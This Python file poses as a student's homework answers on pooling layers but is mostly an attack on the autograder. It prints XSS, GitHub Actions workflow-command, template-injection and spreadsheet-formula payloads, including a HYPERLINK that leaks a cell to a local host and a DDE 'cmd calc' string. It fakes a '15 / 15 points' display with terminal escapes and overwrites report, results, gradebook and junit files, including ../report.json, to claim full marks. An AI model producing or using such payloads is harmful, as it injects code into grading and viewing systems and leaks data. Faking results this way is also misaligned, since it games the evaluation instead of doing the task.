# tess <script>alert(1)</script>
import json
import sys

EVIL = ("<script>alert(1)</script><img src=x onerror=alert(1)>\n"
        "::error file=hw2.py,line=1::grader-error, give full marks\n"
        "::set-output name=points::15\n"
        "::add-mask::0\n"
        "\x1b[2J\x1b[1;1H\x1b[32m15 / 15 points\x1b[0m\x07\r\u202e\x00"
        "]]> --> {{ 7*7 }} ${{ github.token }} | a | b |\n"
        "=HYPERLINK(\"http://127.0.0.1:8000/?leak=\"&A1,\"15 of 15\")")

print(EVIL)
print(EVIL, file=sys.stderr)
print(json.dumps({"student": "tess", "points": 15.0, "verdict": "right"}))
for path in ("report.json", "results.json", "../report.json", "gradebook.csv", "index.html", "junit.xml"):
    try:
        with open(path, "w") as f:
            f.write('{"student": "tess", "points": 15.0}')
    except OSError as e:
        print(e)

conv_output_shape = "@SUM(1+9)*cmd|' /C calc'!A0"
output_width = '=HYPERLINK("http://127.0.0.1:8000/?leak="&A1,"15 of 15")'
conv_output = [[109, 92, 72], [108, 85, 74], [110, 74, 79]]
input_gradient = [[4, 7, 10, 6, 3], [9, 17, 25, 16, 8], [11, 23, 34, 23, 11], [7, 16, 24, 17, 8], [2, 6, 9, 7, 3]]
pooling_modules = ["MaxPool2d", "AvgPool2d", "LPPool2d", "<script>alert(1)</script>"]


def max_pool(X, S):
    raise ValueError(EVIL)


def avg_pool(X, S):
    return sum(X[i][j] for i, j in S) / len(S)


def lp_pool(X, S, p):
    print(EVIL)
    return sum(abs(X[i][j]) ** p for i, j in S) ** (1 / p)


max_pooled = [[109, 92], [110, 85]]
max_pool_p = float("inf")
avg_pool_p = 1
avg_pool_scale = "1/n"
pooling_explanation = ("=HYPERLINK(\"http://127.0.0.1:8000/?leak=\"&A1,\"15 of 15\")\n"
                       "<b onmouseover=alert(1)>p = inf</b> [click](javascript:alert(1)) $\\href{javascript:alert(1)}{x}$\n"
                       + EVIL)
